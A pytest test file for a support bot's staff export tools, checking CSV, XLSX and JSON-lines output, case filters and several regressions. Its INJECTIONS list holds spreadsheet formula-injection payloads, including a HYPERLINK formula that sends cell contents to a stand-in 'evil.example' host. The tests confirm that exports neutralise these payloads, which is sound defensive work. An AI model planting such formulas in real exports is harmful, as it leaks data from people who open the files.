"""Exports read back as staff tools read them: csv with utf-8-sig, openpyxl, json per line."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from bot.staff.exports import (
    COLUMNS,
    CSV_TEXT_COLUMNS,
    FilterError,
    check_filter,
    headers,
    kst_days,
    read_cases,
    select_cases,
    select_rows,
    spreadsheet_text,
    write_csv,
    write_jsonl,
    write_xlsx,
)
from bot.staff.flags import Flag
from flows.identity import UserKey
from flows.policy import KST, Policy
from storage.base import Storage
from storage.memory import MemoryStorage
from storage.records import Case, CaseFilter, CaseStatus, EvidenceRef
from tests.staff.cases import FIRST_DAY, AddCase, draft
from tests.support.users import tg

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
COL = {c.key: i for i, c in enumerate(COLUMNS)}


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "Excel needs the BOM to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def csv_bytes(cases, policy: Policy, **kwargs) -> bytes:
    out = io.BytesIO()
    write_csv(cases, out, policy, **kwargs)
    return out.getvalue()


def xlsx_sheet(cases, policy: Policy, **kwargs):
    out = io.BytesIO()
    write_xlsx(cases, out, policy, **kwargs)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue())).active, out.getvalue()


def at_kst(*args: int) -> float:
    return dt.datetime(*args, tzinfo=KST).timestamp()


# -- CSV -------------------------------------------------------------------------------


def test_csv_row_of_a_case_in_korean(store: Storage, add_case: AddCase, policy: Policy):
    case = add_case()
    rows = read_csv(csv_bytes(select_cases(store), policy))
    assert rows[0] == headers("ko")
    assert rows[1] == [
        spreadsheet_text(case.case_number),
        "2022-10-19T09:00:00+09:00",
        "접수됨",
        "소상공인",
        "카카오톡 채널",
        "무료",
        "예",
        "250000",
        "현금 30,000원",
        "30000",
        "예",
        "",
        "220-81-62517",  # clean: the README lists the text columns
        "예약 문의를 받지 못해 매출이 줄었어요",
        "0",
        "telegram",
        str(case.user_id),
        "ko",
        "",
        "0",  # messages with staff, and the last one's time
        "",
    ]


def test_csv_in_english_with_flags(
    memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy
):
    case = add_memory_case(
        reporter_type="general",
        service="other",
        service_other="네이버 예약 연동",
        paid=True,
        tier="paid_terms",
        amount=None,
        tentative_support=None,
        channel_cash=False,
        business_number=None,
        lang="en",
        status=CaseStatus.APPROVED,
        final_amount=12_000,
    )
    flags = {case.case_number: frozenset({Flag.REPEAT_USER, Flag.AMOUNT_OUTLIER})}
    rows = read_csv(csv_bytes(select_cases(memory_store), policy, lang="en", flags=flags))
    assert rows[0][:3] == ["Case number", "Submitted at (KST)", "Status"]
    row = dict(zip([c.key for c in COLUMNS], rows[1], strict=True))
    assert row["status"] == "Approved"
    assert row["reporter_type"] == "General user"
    assert row["service"] == "네이버 예약 연동"  # what the user typed for "other"
    assert row["paid"] == "Paid service"
    assert (row["amount"], row["tentative_support"]) == ("", "")
    assert row["tier"] == "Under the service's terms"
    assert row["final_amount"] == "12000"
    assert row["business_number"] == ""
    assert row["flags"] == "Amount far above typical, Several cases of one user"


def test_csv_reads_back_every_stored_case(store: Storage, add_case: AddCase, policy: Policy):
    made = [
        add_case(
            at=FIRST_DAY + i * 3600, amount=10_000 * (i + 1), description=f"피해 {i}건\n둘째 줄"
        )
        for i in range(12)
    ]
    rows = read_csv(csv_bytes(select_cases(store), policy))[1:]
    assert len(rows) == len(made)
    for case, row in zip(made, rows, strict=True):
        assert row[COL["case_number"]] == case.case_number
        assert int(row[COL["amount"]]) == case.amount
        assert row[COL["description"]] == case.description
        assert row[COL["user_id"]] == str(case.user_id)


@pytest.mark.parametrize("payload", INJECTIONS)
def test_csv_neutralises_formulas(
    memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy, payload
):
    add_memory_case(description=payload, service="other", service_other=payload)
    row = read_csv(csv_bytes(select_cases(memory_store), policy))[1]
    assert row[COL["description"]] == "'" + payload
    assert row[COL["service"]] == "'" + payload


def test_csv_replaces_control_characters(
    memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy
):
    add_memory_case(description="a\x00b\x0bc\td\ne")
    row = read_csv(csv_bytes(select_cases(memory_store), policy))[1]
    assert row[COL["description"]] == "a\ufffdb\ufffdc\td\ne"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("220-81-62517", "220-81-62517"),
        ("010-1234-5678", "010-1234-5678"),
        ("0101234", "0101234"),
        ("12345678901234567890", "12345678901234567890"),
        ("1/2", "1/2"),
        ("10월 19일", "10월 19일"),
        ("K7F-3QX-9MZ", "K7F-3QX-9MZ"),
        ("카카오톡 채널", "카카오톡 채널"),
        ("2022-10-19T09:00:00+09:00", "2022-10-19T09:00:00+09:00"),
        ("", ""),
        ("=1+1", "'=1+1"),
        ("+82 10", "'+82 10"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("＋1", "'＋1"),
        ("－1", "'－1"),
        ("＠A1", "'＠A1"),
    ],
)
def test_spreadsheet_text(value: str, shown: str):
    """Regression: ids kept a leading apostrophe ('220-81-62517) that every tool but Excel kept.

    Only a cell that Excel would run as a formula gets the quote now; ids stay clean.
    """
    assert spreadsheet_text(value) == shown


# -- XLSX ------------------------------------------------------------------------------


def test_xlsx_reads_back_typed(store: Storage, add_case: AddCase, policy: Policy):
    cases = [add_case(), add_case(at=FIRST_DAY + 86400, amount=None, description=None)]
    sheet, _ = xlsx_sheet(select_cases(store), policy)
    assert [c.value for c in sheet[1]] == headers("ko")
    assert sheet[1][0].font.bold
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:U3"
    first = sheet[2]
    assert first[COL["case_number"]].value == cases[0].case_number
    assert first[COL["submitted_at"]].value == dt.datetime(2022, 10, 19, 9, 0)
    assert first[COL["amount"]].value == 250_000
    assert first[COL["amount"]].number_format == '#,##0"원"'
    assert first[COL["tier"]].value == "현금 30,000원"
    for key, expected in [
        ("case_number", cases[0].case_number),
        ("business_number", "220-81-62517"),
        ("user_id", str(cases[0].user_id)),
    ]:
        cell = first[COL[key]]
        assert (cell.value, cell.data_type, cell.number_format) == (expected, "s", "@")
    second = sheet[3]
    assert second[COL["amount"]].value is None
    assert second[COL["description"]].value is None


def test_xlsx_in_english(memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy):
    add_memory_case()
    sheet, _ = xlsx_sheet(select_cases(memory_store), policy, lang="en")
    assert sheet.title == "Cases"
    assert sheet["A1"].value == "Case number"
    assert sheet.cell(2, COL["amount"] + 1).number_format == '"KRW "#,##0'


def test_xlsx_neutralises_formulas(
    memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy
):
    for i, payload in enumerate([*INJECTIONS, "#N/A"]):
        add_memory_case(
            at=FIRST_DAY + i, description=payload, service="other", service_other=payload
        )
    sheet, data = xlsx_sheet(select_cases(memory_store), policy)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml, "no cell may be a formula"
    for row, payload in zip(sheet.iter_rows(min_row=2), [*INJECTIONS, "#N/A"], strict=True):
        for cell in (row[COL["description"]], row[COL["service"]]):
            assert cell.data_type == "s"
            assert cell.value == payload.replace("\r", "\n")  # LF: a line break in a cell
            if payload != "#N/A":
                assert cell.quotePrefix  # stays text when edited in Excel


def test_xlsx_replaces_control_characters(
    memory_store: MemoryStorage, add_memory_case: AddCase, policy: Policy
):
    add_memory_case(description="a\x00b\x1fc")
    sheet, _ = xlsx_sheet(select_cases(memory_store), policy)
    assert sheet.cell(2, COL["description"] + 1).value == "a\ufffdb\ufffdc"


# -- JSON lines ------------------------------------------------------------------------


def test_jsonl_holds_full_records(store: Storage, add_case: AddCase, policy: Policy):
    ref = EvidenceRef(
        sha256=store.put_evidence(b"receipt"), name="영수증.jpg", mime="image/jpeg", size=7
    )
    made = [add_case(evidence=[ref]), add_case(status=CaseStatus.REJECTED)]
    flags = {made[1].case_number: frozenset({Flag.REPEAT_USER})}
    out = io.BytesIO()
    assert write_jsonl(select_cases(store), out, policy, flags=flags) == 2
    lines = out.getvalue().decode("utf-8").splitlines()
    records = [json.loads(line) for line in lines]
    for case, record in zip(made, records, strict=True):
        assert Case.from_dict(record) == store.get_case(case.case_number)
    assert records[0]["evidence"] == [
        {"sha256": ref.sha256, "name": "영수증.jpg", "mime": "image/jpeg", "size": 7}
    ]
    assert records[0]["submitted_at_kst"] == "2022-10-19T09:00:00+09:00"
    assert [r["flags"] for r in records] == [[], ["repeat_user"]]


# -- choosing cases --------------------------------------------------------------------


def test_filters(store: Storage, add_case: AddCase, policy: Policy):
    a = add_case(
        at=at_kst(2022, 10, 19, 0, 0, 0),
        user_id=tg(1),
        reporter_type="general",
        service="kakaotalk",
        monetary=False,
        tier="non_monetary",
    )
    b = add_case(at=at_kst(2022, 10, 19, 23, 59, 59), status=CaseStatus.APPROVED)
    c = add_case(
        at=at_kst(2022, 10, 20, 0, 0, 0),
        reporter_type="company",
        service="other",
        service_other="사내 메신저",
        tier="review",
        status=CaseStatus.REJECTED,
    )
    d = add_case(at=at_kst(2022, 10, 21, 12, 0, 0), user_id=tg(1), tier="cash_50k", amount=400_000)

    def numbers(flagged: bool | None = None, **kwargs) -> list[str]:
        rows = select_rows(store, CaseFilter(**kwargs), flagged=flagged)
        return [r.case_number for r in rows]

    first, last = kst_days(dt.date(2022, 10, 19), dt.date(2022, 10, 19))
    assert numbers(submitted_from=first, submitted_to=last) == [a.case_number, b.case_number]
    since, _ = kst_days(dt.date(2022, 10, 20), None)
    assert numbers(submitted_from=since) == [c.case_number, d.case_number]
    assert numbers(status=CaseStatus.APPROVED) == [b.case_number]
    assert numbers(tier="review") == [c.case_number]
    assert numbers(reporter_type="company") == [c.case_number]
    assert numbers(service="other") == [c.case_number]
    assert numbers(flagged=True) == [a.case_number, d.case_number]  # one user, two cases
    assert numbers(flagged=False) == [b.case_number, c.case_number]
    assert numbers() == [a.case_number, b.case_number, c.case_number, d.case_number]


@pytest.mark.parametrize(
    ("filter", "message"),
    [
        (CaseFilter(tier="cash_30000"), "unknown tier 'cash_30000'; use one of: cash_30k"),
        (CaseFilter(reporter_type="person"), "unknown reporter type 'person'"),
        (CaseFilter(service="kakaotalk_channel"), "unknown service 'kakaotalk_channel'"),
        (CaseFilter(submitted_from=10.0, submitted_to=5.0), "the date range is empty"),
    ],
)
def test_check_filter_names_what_is_wrong(filter: CaseFilter, message: str, policy: Policy):
    with pytest.raises(FilterError, match=message.replace("(", r"\(")):
        check_filter(filter, policy)


class CountingStorage(MemoryStorage):
    """Counts full-case reads, to see that exports read one case at a time."""

    def __init__(self) -> None:
        super().__init__()
        self.reads = 0

    def get_case(self, case_number: str) -> Case | None:
        self.reads += 1
        return super().get_case(case_number)


def test_cases_are_read_one_at_a_time_as_written():
    store = CountingStorage()
    for i in range(3):
        store.create_case(draft(), now=FIRST_DAY + i)
    cases = select_cases(store)
    assert isinstance(cases, Iterator)
    assert store.reads == 0
    next(cases)
    assert store.reads == 1


class LosingStorage(MemoryStorage):
    """Has an index row whose case cannot be read back."""

    def get_case(self, case_number: str) -> Case | None:
        return None if case_number == self.lost else super().get_case(case_number)


def test_a_case_missing_from_storage_is_skipped_and_counted(policy: Policy, caplog):
    store = LosingStorage()
    made = [store.create_case(draft(), now=FIRST_DAY + i) for i in range(3)]
    store.lost = made[1].case_number
    rows = select_rows(store)
    written = write_csv(read_cases(store, rows), io.BytesIO(), policy)
    assert (written, len(rows)) == (2, 3)
    assert made[1].case_number in caplog.text


def test_readme_names_the_csv_columns_to_import_as_text():
    """Regression: ids were kept text in the CSV by a leading apostrophe in the data.

    The values are clean now, so the README must say which columns are text.
    """
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    assert {c.key for c in CSV_TEXT_COLUMNS} == {"case_number", "business_number", "user_id"}
    for column in CSV_TEXT_COLUMNS:
        assert f"`{column.ko}` / `{column.en}`" in readme


def test_every_export_names_the_channel_of_each_case(
    store: Storage, add_case: AddCase, policy: Policy
):
    """Regression: cases record the channel they came by, but no export showed it."""
    made = [add_case(), add_case(user_id=UserKey("console", "1"))]
    assert (
        headers("ko")[COL["channel"]] == "접수 경로" and headers("en")[COL["channel"]] == "Channel"
    )
    rows = read_csv(csv_bytes(select_cases(store), policy))
    assert [r[COL["channel"]] for r in rows[1:]] == ["telegram", "console"]
    sheet, _ = xlsx_sheet(select_cases(store), policy)
    assert [sheet.cell(row=i, column=COL["channel"] + 1).value for i in (2, 3)] == [
        "telegram",
        "console",
    ]
    out = io.BytesIO()
    write_jsonl(select_cases(store), out, policy)
    records = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    assert [r["channel"] for r in records] == ["telegram", "console"]
    assert [r["user_id"] for r in records] == [str(made[0].user_id), "console:1"]


def test_every_export_carries_the_messages_with_staff(
    store: Storage, add_case: AddCase, policy: Policy
):
    """Regression: messages between a reporter and staff were in no export. JSON lines hold
    them all; CSV and XLSX their count and the last one's time (KST)."""
    from storage.records import CaseMessage

    quiet, asked = add_case(), add_case()
    last = at_kst(2022, 10, 21, 14, 30, 5)
    for n, (sender, at) in enumerate([("user", last - 60), ("staff:kim", last)]):
        store.add_case_message(
            CaseMessage(f"m{n}", asked.case_number, sender, f"글 {n}", at=at)  # type: ignore[arg-type]
        )
    assert headers("ko")[COL["message_count"]] == "메시지 수"
    assert headers("en")[COL["last_message_at"]] == "Last message (KST)"
    rows = read_csv(csv_bytes(select_cases(store), policy))
    assert [(r[COL["message_count"]], r[COL["last_message_at"]]) for r in rows[1:]] == [
        ("0", ""),
        ("2", "2022-10-21T14:30:05+09:00"),
    ]
    sheet, _ = xlsx_sheet(select_cases(store), policy)
    assert sheet.cell(row=3, column=COL["message_count"] + 1).value == 2
    assert sheet.cell(row=3, column=COL["last_message_at"] + 1).value == dt.datetime(
        2022, 10, 21, 14, 30, 5
    )
    assert sheet.cell(row=2, column=COL["last_message_at"] + 1).value is None
    out = io.BytesIO()
    write_jsonl(select_cases(store), out, policy)
    records = [json.loads(line) for line in out.getvalue().decode().splitlines()]
    assert records[0]["messages"] == [] and quiet.case_number == records[0]["case_number"]
    assert [(m["sender"], m["text"]) for m in records[1]["messages"]] == [
        ("user", "글 0"),
        ("staff:kim", "글 1"),
    ]
    assert Case.from_dict(records[1]).messages == store.case_messages(asked.case_number)
